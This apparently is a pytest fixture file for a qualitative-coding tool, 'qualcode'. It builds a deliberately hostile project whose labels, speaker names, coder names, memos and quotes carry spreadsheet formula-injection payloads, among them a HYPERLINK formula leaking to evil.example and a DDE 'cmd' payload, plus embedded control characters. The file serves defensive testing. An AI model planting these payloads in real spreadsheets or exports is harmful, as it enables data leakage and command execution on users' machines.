"""A small hostile project, built once per session and copied per test: labels,
attribute values, speakers, coder names, memos and quotes that start like
spreadsheet formulas or hold control characters; two coders; a codebook file."""
from __future__ import annotations

import shutil
import sqlite3
from pathlib import Path

import pytest

FORMULA = '=HYPERLINK("http://evil.example/?leak","ouvrir")'
EVIL = f"""---
id: EVIL
actor_type: '{FORMULA}'
structure: "@SUM(9)"
title: "+cmd|' /C calc'!A0"
---
Enquêtrice : Bonjour, comment ça va ?
=cmd|' /C calc'!A0 : =1+1 les punaises étaient partout dans la chambre.
Enquêtrice : Et les éducs ?
=cmd|' /C calc'!A0 : -2+3 ils passent\x07 tous les quinze jours, @SUM(1) pas plus.
"""
PLAIN = """---
id: P1
actor_type: usagers
---
E : Comment se passe le suivi ?
R : On a trop d'usagers, on ne peut plus passer chaque semaine dans les hôtels.
"""
BOOK = f"""name: Hostile
codes:
  - id: freins
    label: '{FORMULA}'
  - id: freins/hotel
    label: "+Conditions hôtelières"
  - id: freins/visites
    label: "-Visites"
  - id: leviers
    label: "@Leviers"
"""
CODINGS = {
    "=coder-a": [("freins/hotel", "=1+1 les punaises étaient partout"), ("freins/visites", "-2+3 ils passent"),
                 ("leviers", "@SUM(1) pas plus")],
    "coder-b": [("freins/hotel", "les punaises étaient partout dans la chambre"),
                ("leviers", "tous les quinze jours, @SUM(1)")],
}


def _build(root: Path) -> Path:
    from qualcode import Project
    from qualcode import coding as ops

    src = root / "src"
    src.mkdir(parents=True)
    (src / "EVIL.txt").write_text(EVIL, encoding="utf-8")
    (src / "P1.txt").write_text(PLAIN, encoding="utf-8")
    proj_root = root / "proj"
    with Project.init(proj_root) as project:
        (proj_root / "codebook.yaml").write_text(BOOK, encoding="utf-8")
        project.import_files([src / "EVIL.txt", src / "P1.txt"], actor="setup")
        project.load_codebook(proj_root / "codebook.yaml", actor="setup")
        for coder, items in CODINGS.items():
            for code, quote in items:
                start, end = ops.resolve_span(project, "EVIL", quote=quote)
                ops.add(project, "EVIL", code, coder, start, end, memo="=2*3 mémo\x1b[31m")
        ops.add(project, "P1", "leviers", "coder-b", 40, 60)
    # a label with control characters, as an older version could store it
    con = sqlite3.connect(proj_root / "qualcode.db")
    con.execute("UPDATE codes SET label = ? WHERE id = 'leviers'", ("@Leviers\x07 \x1b[31mrouge\x0b",))
    con.commit()
    con.close()
    return proj_root


@pytest.fixture(scope="session")
def hostile_template(tmp_path_factory) -> Path:
    return _build(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def hostile(hostile_template, tmp_path) -> Path:
    """A fresh copy of the hostile project (its folder)."""
    target = tmp_path / "proj"
    shutil.copytree(hostile_template, target)
    return target
